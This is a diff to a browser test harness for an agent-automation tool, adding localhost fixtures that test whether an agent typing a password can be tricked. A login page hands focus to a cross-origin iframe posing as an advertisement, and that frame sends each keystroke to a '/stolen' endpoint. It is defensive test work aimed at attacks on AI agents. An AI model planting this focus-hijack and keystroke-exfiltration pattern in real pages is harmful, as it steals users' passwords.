@@ -13,9 +13,24 @@ import { type BrowserContext, chromium, expect, type Page, type Worker } from "@
 const at = (path: string) => fileURLToPath(new URL(path, import.meta.url));
 const PROGRAM = process.env.LEGWORK_BIN ?? at("../../../target/debug/legwork");
 const EXTENSION = at("../../dist");
-const BROWSER =
+export const BROWSER =
   process.env.LEGWORK_TEST_BROWSER ??
   ["/usr/lib/chromium/chromium", "/usr/bin/chromium", "/usr/bin/google-chrome"].find(existsSync);
+
+/** A page for the work of an agent that is told to enter a password. The frame is of another site, whose address has the
+ * other name of this machine. On /theft, the frame takes the focus as soon as the field has it. */
+const login = (port: number, steals: boolean) => `<!doctype html><title>Log in</title><h1>Log in</h1>
+<label>Password <input type="password" name="password"></label><button type="button" onclick="leak()">Fetch</button>
+<iframe src="http://localhost:${port}/thief" title="Advertisement"></iframe>
+<script>
+  const frame = document.querySelector("iframe");
+  const field = document.querySelector("input");
+  ${steals ? `field.addEventListener("focus", () => frame.contentWindow.postMessage("focus", "*"));` : ""}
+  const leak = () => fetch("http://localhost:${port}/leaked", { mode: "no-cors" }).catch(() => undefined)
+    .then(() => { document.querySelector("h1").textContent = "The answer has come"; });
+</script>`;
+const THIEF = `<!doctype html><label>Voucher <input name="voucher" oninput="fetch('/stolen?' + this.value)"></label>
+<script>addEventListener("message", () => document.querySelector("input").focus());</script>`;
 
 /** A page with a list, which asks for nothing. */
 const SITE = `<!doctype html><title>Orders</title><h1>Orders</h1>
@@ -37,8 +52,21 @@ const SITE = `<!doctype html><title>Orders</title><h1>Orders</h1>
 const plain = (title: string) =>
   `<!doctype html><title>${title}</title><h1>${title}</h1><a href="/">Orders</a> <a href="/second">Second page</a> <a href="/third">Third page</a>`;
 
+/** How a run of a terminal ended. */
+export interface TerminalEnd {
+  code: number | null;
+  output: string;
+  page: Page;
+  panel: Page;
+}
+
+/** The button that assigns a tab to a program that asks for one. */
+export const ASSIGN = "Let it work in this tab";
+
 export class Stand {
   readonly data = mkdtempSync(join(tmpdir(), "legwork-panel-"));
+  /** The addresses that the site was asked for. */
+  readonly requests: string[] = [];
   private programs: ChildProcess[] = [];
   private readonly site: Server;
   private constructor(
@@ -47,6 +75,7 @@ export class Stand {
     site: Server,
   ) {
     this.site = site;
+    site.on("request", ({ url }) => this.requests.push(url ?? ""));
   }
 
   static async open(): Promise<Stand> {
@@ -54,6 +83,9 @@ export class Stand {
       reply.setHeader("Content-Type", "text/html");
       if (request.url === "/second") reply.end(plain("Second page"));
       else if (request.url === "/third") reply.end(plain("Third page"));
+      else if (request.url === "/login" || request.url === "/theft")
+        reply.end(login((site.address() as AddressInfo).port, request.url === "/theft"));
+      else if (request.url === "/thief") reply.end(THIEF);
       else if (request.url === "/frame") reply.end("<label>Note <input name=note></label>");
       else reply.end(SITE);
     });
@@ -115,6 +147,37 @@ export class Stand {
     const path = join(this.data, "steps.txt");
     writeFileSync(path, steps.join("\n"));
     return path;
+  }
+
+  /** Lets a terminal run steps in the tab of a page, which a person assigns; its exit code and what it printed. */
+  async runInTab(options: string[], path: string, ...steps: string[]): Promise<TerminalEnd> {
+    const { tab, page } = await this.tab(path);
+    const { process: program, found } = await this.start(
+      ["run", "--extension", ...options, this.writeSteps(...steps)],
+      /Waiting for a tab of your browser \((.*)\)/,
+      { LEGWORK_SERVER_PORT: "0" },
+    );
+    let output = "";
+    for (const stream of [program.stdout, program.stderr])
+      stream?.on("data", (data: Buffer) => {
+        output += data;
+      });
+    const ended = new Promise<number | null>((resolve) => program.on("exit", resolve));
+    await this.point(found);
+    const panel = await this.panel(tab);
+    if (await this.isPaired()) await panel.getByRole("button", { name: ASSIGN }).waitFor();
+    else await pair(panel, this.run("panel", "pair", "--quiet"), ASSIGN);
+    await panel.getByRole("button", { name: ASSIGN }).click();
+    return { code: await ended, output, page, panel };
+  }
+
+  private isPaired(): Promise<boolean> {
+    return this.worker.evaluate(async () => "token" in (await chrome.storage.local.get("token")));
+  }
+
+  /** Sets whether a run pauses when the person uses its tab: in these tests, the test is the person. */
+  async pauseOnInput(pausesOnInput: boolean): Promise<void> {
+    await this.worker.evaluate((value) => chrome.storage.local.set({ pausesOnInput: value }), pausesOnInput);
   }
 
   /** Starts the server; its address. */
